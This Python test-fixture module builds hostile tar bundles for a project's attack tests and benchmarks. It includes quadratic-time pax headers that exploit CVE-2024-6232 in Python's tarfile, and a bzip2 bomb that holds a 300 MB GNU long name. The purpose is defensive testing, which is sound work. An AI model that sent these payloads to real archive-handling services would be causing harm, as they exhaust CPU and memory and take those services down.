"""Hostile tar archives written block by block (what no packer makes), for the bundle attack tests
and ``benchmarks/attacks.py``: the red team's bundles of issue 47."""

from __future__ import annotations

import bz2
import gzip
import io

BLOCK = 512
GOOD_MANIFEST = b'name = "tiny"\nversion = "1"\nlanguage = "python"\nrun = "{python} bot.py"\n'


def header(name: bytes, size: int, kind: bytes) -> bytes:
    """One ustar header block."""
    h = bytearray(BLOCK)
    h[0 : len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"%011o\0" % 0
    h[148:156] = b" " * 8
    h[156:157] = kind
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def entry(name: bytes, data: bytes, kind: bytes = b"0") -> bytes:
    """A header and its data, padded to whole blocks."""
    return header(name, len(data), kind) + data + bytes(-len(data) % BLOCK)


def slow_pax(size: int) -> bytes:
    """A pax header's body that Python 3.11's tarfile (before 3.11.10, CVE-2024-6232) parses in
    time that grows with the square of its size: every record says it is 2 bytes long, and its
    keyword runs to the one '=' at the end."""
    return b"2 " * ((size - 2) // 2) + b"=\n"


def end() -> bytes:
    return bytes(2 * BLOCK)


def good_files() -> bytes:
    return entry(b"arena-bot.toml", GOOD_MANIFEST) + entry(b"bot.py", b"print(1)\n")


def global_pax_bundle(headers: int = 3, size: int = 64 * 1024) -> bytes:
    """A gzip bundle of ``headers`` global pax headers of ``size`` bytes, then a good bot (1 KB)."""
    raw = b"".join(entry(b"pax_global_header", slow_pax(size), b"g") for _ in range(headers))
    return gzip.compress(raw + good_files() + end(), mtime=0)


def bzip2_pax_bundle(size: int = 120 * 1000) -> bytes:
    """A bzip2 bundle of one pax header of ``size`` bytes before a good bot (under 1 KB)."""
    raw = entry(b"PaxHeader/bot.py", slow_pax(size), b"x") + good_files() + end()
    return bz2.compress(raw, 9)


def bzip2_long_name_bundle(size: int = 300 * 1000 * 1000) -> bytes:
    """A bzip2 bundle holding a GNU long name of ``size`` bytes (a few hundred bytes compressed):
    tarfile reads a long name whole into memory."""
    out = io.BytesIO()
    packer = bz2.BZ2Compressor(9)
    out.write(packer.compress(header(b"././@LongLink", size, b"L")))
    chunk = b"a" * (1 << 20)
    left = size
    while left > 0:
        out.write(packer.compress(chunk[: min(left, len(chunk))]))
        left -= len(chunk)
    out.write(packer.compress(bytes(-size % BLOCK) + good_files() + end()))
    out.write(packer.flush())
    return out.getvalue()
